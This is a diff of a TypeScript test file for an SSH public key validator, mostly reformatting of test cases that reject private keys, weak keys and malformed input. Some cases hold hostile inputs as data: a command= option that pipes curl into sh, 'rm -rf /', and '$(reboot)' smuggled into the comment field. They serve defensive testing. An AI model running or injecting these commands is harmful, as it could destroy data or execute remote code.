@@ -1,12 +1,16 @@
 import { execFileSync } from 'node:child_process';
-import { generateKeyPairSync } from 'node:crypto';
+import { generateKeyPairSync, type KeyObject } from 'node:crypto';
 import sshpk from 'sshpk';
 import { describe, expect, it } from 'vitest';
 import { AppError } from '../../lib/errors.js';
 import { validatePublicKey } from './register.js';
 
 /** An OpenSSH public key line for a key Node generates. */
-function pub(type: 'ed25519' | 'rsa' | 'dsa' | 'ec', option: number | string = 0, comment = 'alice@laptop'): string {
+function pub(
+  type: 'ed25519' | 'rsa' | 'dsa' | 'ec',
+  option: number | string = 0,
+  comment = 'alice@laptop',
+): string {
   const options =
     type === 'rsa'
       ? { modulusLength: option as number }
@@ -15,7 +19,9 @@ function pub(type: 'ed25519' | 'rsa' | 'dsa' | 'ec', option: number | string = 0
         : type === 'ec'
           ? { namedCurve: option as string }
           : {};
-  const { publicKey } = generateKeyPairSync(type as 'ed25519', options as never);
+  // One call shape for every type: the options differ, the KeyObject result does not.
+  const generate = generateKeyPairSync as unknown as (t: string, o: object) => { publicKey: KeyObject };
+  const { publicKey } = generate(type, options);
   const key = sshpk.parseKey(publicKey.export({ type: 'spki', format: 'pem' }).toString(), 'pem');
   key.comment = comment;
   return key.toString('ssh');
@@ -53,7 +59,10 @@ describe('public key validation', () => {
 
   it('computes the fingerprint exactly as ssh-keygen -l prints it', () => {
     for (const line of [ed, pub('rsa', 3072), pub('ec', 'P-384')]) {
-      const printed = execFileSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', '-'], { input: `${line}\n`, encoding: 'utf8' });
+      const printed = execFileSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', '-'], {
+        input: `${line}\n`,
+        encoding: 'utf8',
+      });
       expect(validatePublicKey(line).fingerprint).toBe(printed.split(' ')[1]);
     }
   });
@@ -68,27 +77,55 @@ describe('public key validation', () => {
   it.each([
     ['an RSA key of 2048 bits', pub('rsa', 2048), /at least 3072 bits; this one has 2048/],
     ['a DSA key', pub('dsa'), /DSA keys are refused/],
-    ['a PKCS#8 private key', privatePem(), /^that is a PRIVATE key; never paste it anywhere, send the \.pub file/],
+    [
+      'a PKCS#8 private key',
+      privatePem(),
+      /^that is a PRIVATE key; never paste it anywhere, send the \.pub file/,
+    ],
     [
       'an OpenSSH private key',
       sshpk.parsePrivateKey(privatePem(), 'pkcs8').toString('ssh-private'),
       /^that is a PRIVATE key/,
     ],
-    ['a PuTTY private key', 'PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n', /^that is a PRIVATE key/],
-    ['an RSA PEM private key header', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', /^that is a PRIVATE key/],
-    ['authorized_keys options before the key', `from="10.0.0.0/8",no-pty ${ed}`, /Remove what comes before "ssh-ed25519"/],
+    [
+      'a PuTTY private key',
+      'PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n',
+      /^that is a PRIVATE key/,
+    ],
+    [
+      'an RSA PEM private key header',
+      '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----',
+      /^that is a PRIVATE key/,
+    ],
+    [
+      'authorized_keys options before the key',
+      `from="10.0.0.0/8",no-pty ${ed}`,
+      /Remove what comes before "ssh-ed25519"/,
+    ],
     ['a command= option', `command="/bin/sh -c 'curl x|sh'" ${ed}`, /Remove what comes before/],
     ['two keys on one line', `${ed} ${pub('ed25519')}`, /more than one key/],
     ['two keys on two lines', `${ed}\n${pub('ed25519')}`, /holds 2 keys; register one key at a time/],
-    ['a key broken by a newline', `ssh-ed25519 ${edBlob.slice(0, 30)}\n${edBlob.slice(30)}`, /broken across several lines/],
+    [
+      'a key broken by a newline',
+      `ssh-ed25519 ${edBlob.slice(0, 30)}\n${edBlob.slice(30)}`,
+      /broken across several lines/,
+    ],
     ['a carriage return inside', `ssh-ed25519 ${edBlob}\rx`, /broken across several lines/],
     ['a NUL byte', `ssh-ed25519 ${edBlob} a\u0000b`, /control character \(U\+0000\)/],
     ['an escape sequence', `ssh-ed25519 ${edBlob} \u001b[31mred`, /control character \(U\+001B\)/],
     ['a bidi override', `ssh-ed25519 ${edBlob} \u202Eevil`, /invisible character/],
-    ['a zero-width space in the key', `ssh-ed25519 ${edBlob.slice(0, 10)}\u200B${edBlob.slice(10)}`, /invisible character/],
+    [
+      'a zero-width space in the key',
+      `ssh-ed25519 ${edBlob.slice(0, 10)}\u200B${edBlob.slice(10)}`,
+      /invisible character/,
+    ],
     ['shell injection instead of a key', '; rm -rf /', /not an SSH public key/],
     ['command substitution', '$(reboot)', /not an SSH public key/],
-    ['shell metacharacters in the comment', `ssh-ed25519 ${edBlob} $(reboot);rm -rf /`, /comment after the key may only hold/],
+    [
+      'shell metacharacters in the comment',
+      `ssh-ed25519 ${edBlob} $(reboot);rm -rf /`,
+      /comment after the key may only hold/,
+    ],
     ['a fake Warden tag in the comment', `ssh-ed25519 ${edBlob} warden:service-abc`, /not "warden:"/],
     ['a certificate', `ssh-ed25519-cert-v01@openssh.com ${edBlob}`, /certificate, not a public key/],
     ['a FIDO key', `sk-ssh-ed25519@openssh.com ${edBlob}`, /Security-key \(FIDO/],
